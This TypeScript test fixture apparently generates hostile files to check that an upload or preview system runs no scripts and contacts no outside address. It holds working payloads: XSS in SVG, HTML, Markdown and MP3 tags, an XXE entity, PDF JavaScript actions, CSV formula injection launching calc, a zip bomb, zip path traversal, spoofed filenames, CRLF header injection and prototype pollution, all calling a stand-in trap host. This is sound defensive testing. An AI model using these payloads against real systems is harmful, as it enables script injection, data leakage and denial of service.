import { makeZip } from '../files.ts';

/** Malicious files: each tries to run a script or to call an address in every way that its type allows. */

export interface HostileFile {
  readonly name: string;
  readonly type: string;
  readonly content: Buffer;
}

const svg = (trapUrl: string) => `<?xml version="1.0"?>
<?xml-stylesheet href="${trapUrl}/style.css" type="text/css"?>
<!DOCTYPE svg [<!ENTITY steal SYSTEM "${trapUrl}/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"
  onload="globalThis.harm=true;fetch('${trapUrl}/onload')">
  <script>globalThis.harm=true;top.harm=true;fetch('${trapUrl}/script')</script>
  <script href="${trapUrl}/remote.js"/>
  <style>@import url("${trapUrl}/import.css"); rect { fill: url("${trapUrl}/fill") }</style>
  <image href="${trapUrl}/image.png" width="9" height="9"/>
  <use xlink:href="${trapUrl}/use.svg#a"/>
  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${trapUrl}/frame"/></foreignObject>
  <a href="javascript:globalThis.harm=true"><rect width="20" height="20"/></a>
  <text>&steal;</text>
</svg>`;

const html = (trapUrl: string) => `<!doctype html><meta http-equiv="refresh" content="0;url=${trapUrl}/refresh">
<base href="${trapUrl}/"><link rel="prefetch" href="${trapUrl}/prefetch"><img src="x" onerror="globalThis.harm=true">
<script>globalThis.harm=true;top.harm=true;alert('harm');fetch('${trapUrl}/html')</script>
<form action="${trapUrl}/form"><input autofocus onfocus="globalThis.harm=true"></form><iframe src="${trapUrl}/frame"></iframe>`;

const pdf = (trapUrl: string) => `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('harm'\\);app.launchURL\\('${trapUrl}/pdf'\\))>>
/AA<</WC<</S/URI/URI(${trapUrl}/close)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(${trapUrl}/open)>>>>>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

/** Whole enough to be drawn: links and forms to click, streams and pictures that lie elsewhere, scripts at every chance. */
const linkedPdf = (trapUrl: string) => `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 9 0 R/Names<</JavaScript<</Names[(a)9 0 R]>>>>
/AcroForm<</Fields[7 0 R]/CO[7 0 R]/XFA(<xdp><script>globalThis.harm=true</script></xdp>)>>/URI<</Base(${trapUrl}/)>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 99999999>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>/XObject<</X 8 0 R>>>>
/Annots[6 0 R 7 0 R]/AA<</O 9 0 R/C 9 0 R>>>>endobj
4 0 obj<</Length 74>>stream
BT /F 20 Tf 20 120 Td (A paper with <b>words</b>) Tj ET q 9 0 0 9 9 9 cm /X Do Q
endstream endobj
5 0 obj<</Type/Font/Subtype/TrueType/BaseFont/Arial/Encoding/WinAnsiEncoding>>endobj
6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(${trapUrl}/link)>>/PA<</S/URI/URI(${trapUrl}/seen)>>>>endobj
7 0 obj<</Type/Annot/Subtype/Widget/FT/Tx/T(field)/Rect[20 20 90 40]/AA<</F 9 0 R/K 9 0 R>>
/A<</S/SubmitForm/F(${trapUrl}/form)>>>>endobj
8 0 obj<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceRGB/BitsPerComponent 8
/F<</FS/URL/F(${trapUrl}/picture)>>/Length 0>>stream
endstream endobj
9 0 obj<</S/JavaScript/JS(globalThis.harm=true;app.launchURL\\('${trapUrl}/pdf'\\))>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

const markdown = (trapUrl: string) => `# <img src="${trapUrl}/title" onerror="globalThis.harm=true">

<script>globalThis.harm=true;fetch('${trapUrl}/markdown')</script>
<iframe src="${trapUrl}/frame"></iframe> inline <svg onload="globalThis.harm=true"><style>@import "${trapUrl}/css"</style>

![A picture](${trapUrl}/picture.png) ![two](data:image/svg+xml,<svg/onload=alert(1)>) [![three](${trapUrl}/three.png)][ref]
[script](javascript:globalThis.harm=true) [spaced](java\tscript:alert(1)) [entity](&#106;avascript:alert(1)) [data](data:text/html,<script>harm=true</script>)
[ref]: javascript:globalThis.harm=true "<b onclick=alert(1)>"
<javascript:globalThis.harm=true> <${trapUrl}/auto> ${trapUrl}/bare
\`<img src=x onerror=alert(1)>\` **bold \u202e turned \u2066 words**

| <img src=${trapUrl}/cell> | b |
|---|---|
| [c](vbscript:x) | <base href="${trapUrl}/"> |

${'> '.repeat(3000)}deep
${'['.repeat(2000)}${'*a_ '.repeat(2000)}
`;

const FORMULAS = (
  trapUrl: string,
) => `=HYPERLINK("${trapUrl}/formula"),+cmd|' /C calc'!A0,@SUM(1),<img src=${trapUrl}/csv>
"=IMPORTXML(""${trapUrl}/import"",""//a"")",-2,"<script>globalThis.harm=true</script>",\u202egpj
`;

const CONTROLS = '\u001b]0;harm\u0007\u001b[2Jif access != "user\u202e \u2066# only if admin\u2069 \u2066": pass';

/** One that says it holds more than any disk, in a directory that lies about its length. */
const bomb = () =>
  makeZip(
    Array.from({ length: 20 }, (_, at) => ({ name: `${at}.bin`, content: Buffer.from('0'), saidBytes: 0xfffffffe })),
    60_000,
  );

const trick = (trapUrl: string) =>
  makeZip([
    { name: '../../../../etc/passwd', content: Buffer.from('words') },
    { name: `<img src=x onerror="globalThis.harm=true;fetch('${trapUrl}/zip')">`, content: Buffer.from('words') },
    { name: 'photo\u202egpj.exe', content: Buffer.from('MZ') },
    { name: 'a\u0000\r\n\u200bb.txt', content: Buffer.from('words') },
  ]);

const big32 = (value: number) => Buffer.from([value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255]);
/** Sizes of ID3 tags have seven bits a byte. */
const synchsafe = (size: number) => Buffer.from([size >> 21, (size >> 14) & 127, (size >> 7) & 127, size & 127]);

/** A sound whose tags have markup, a cover that is a drawing with scripts, and one that lies elsewhere ("-->", ID3v2.3 4.15). */
function tagged(trapUrl: string): Buffer {
  const frame = (id: string, body: Buffer) =>
    Buffer.concat([Buffer.from(id), big32(body.length), Buffer.alloc(2), body]);
  const cover = (type: string, bytes: string) => frame('APIC', Buffer.from(`\0${type}\0\u0003\0${bytes}`, 'latin1'));
  const frames = Buffer.concat([
    frame('TIT2', Buffer.from(`\0<img src=x onerror="globalThis.harm=true">`)),
    frame('TPE1', Buffer.from(`\0<script>fetch('${trapUrl}/artist')</script>`)),
    cover('-->', `${trapUrl}/cover.png`),
    cover('image/svg+xml', svg(trapUrl)),
    cover('image/png', svg(trapUrl)),
  ]);
  return Buffer.concat([Buffer.from('ID3\u0003\0\0', 'latin1'), synchsafe(frames.length), frames, Buffer.alloc(500)]);
}

const EVENT = (trapUrl: string) => `fetch('${trapUrl}/name')`;

/** @param trapUrl origin of a server that must get no request */
export function hostileFiles(trapUrl: string): HostileFile[] {
  const page = Buffer.from(html(trapUrl));
  const drawing = Buffer.from(svg(trapUrl));
  return [
    { name: 'drawing.svg', type: 'image/svg+xml', content: drawing },
    { name: 'a-drawing-that-says-png.png', type: 'image/png', content: drawing },
    { name: 'page.html', type: 'text/html', content: page },
    { name: 'a-page-that-says-picture.jpg', type: 'image/jpeg', content: page },
    { name: 'a-page-that-says-text.txt', type: 'text/plain', content: page },
    { name: 'a-page-that-says-film.mp4', type: 'video/mp4', content: page },
    { name: 'page.xhtml', type: 'application/xhtml+xml', content: Buffer.from(svg(trapUrl)) },
    { name: 'script.js', type: 'text/javascript', content: Buffer.from(`globalThis.harm=true;${EVENT(trapUrl)}`) },
    { name: 'paper.pdf', type: 'application/pdf', content: Buffer.from(pdf(trapUrl)) },
    { name: 'linked.pdf', type: 'application/pdf', content: Buffer.from(linkedPdf(trapUrl)) },
    { name: 'readme.md', type: 'text/markdown', content: Buffer.from(markdown(trapUrl)) },
    { name: 'formulas.csv', type: 'text/csv', content: Buffer.from(FORMULAS(trapUrl)) },
    { name: 'controls.py', type: 'text/x-python', content: Buffer.from(CONTROLS) },
    { name: 'lines.log', type: 'text/plain', content: Buffer.from('\n'.repeat(1_000_000)) },
    { name: 'bomb.zip', type: 'application/zip', content: bomb() },
    { name: 'trick.zip', type: 'application/zip', content: trick(trapUrl) },
    { name: 'a-page-that-says-zip.zip', type: 'application/zip', content: page },
    { name: 'a-page-that-says-photo.heic', type: 'image/heic', content: page },
    { name: 'a-page-that-says-photo.avif', type: 'image/avif', content: page },
    { name: 'song.mp3', type: 'audio/mpeg', content: tagged(trapUrl) },
    // Names: markup, paths, a reversed extension, control characters, a header's end.
    { name: `"><img src=x onerror="${EVENT(trapUrl)}">.png`, type: 'image/png', content: page },
    { name: '<script>globalThis.harm=true</script>.txt', type: 'text/plain', content: Buffer.from('words') },
    { name: '../../../../etc/passwd.txt', type: 'text/plain', content: Buffer.from('words') },
    { name: 'holiday\u202egpj.exe', type: 'application/octet-stream', content: Buffer.from('MZ') },
    { name: 'in\u200bvoice\u{e0061}.txt', type: 'text/plain', content: Buffer.from('words') },
    { name: 'two\r\nSet-Cookie: harm=1\r\n\r\nlines.txt', type: 'text/plain', content: Buffer.from('words') },
    // Types: invalid or forbidden in a header.
    { name: 'typed.bin', type: `text/html;x="${trapUrl}"`, content: page },
    { name: 'a.__proto__', type: '__proto__', content: Buffer.from('{"__proto__":{"harm":true}}') },
  ];
}
